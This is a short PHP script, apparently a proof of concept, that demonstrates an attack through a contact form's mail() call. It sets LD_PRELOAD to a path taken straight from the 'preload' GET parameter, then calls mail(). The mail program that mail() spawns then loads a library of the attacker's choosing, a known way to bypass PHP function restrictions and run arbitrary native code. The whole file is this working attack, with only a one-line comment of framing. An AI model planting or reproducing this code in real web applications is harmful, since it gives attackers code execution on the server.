<?php
// What every contact form does; and what an attacker who can run PHP makes of it.
if (isset($_GET['preload'])) {
    putenv('LD_PRELOAD=' . $_GET['preload']);
}
header('X-Pid: ' . getmypid());
echo mail('webmaster@localhost', 'hello', "from a form\n") ? 'sent' : 'not sent', "\n";
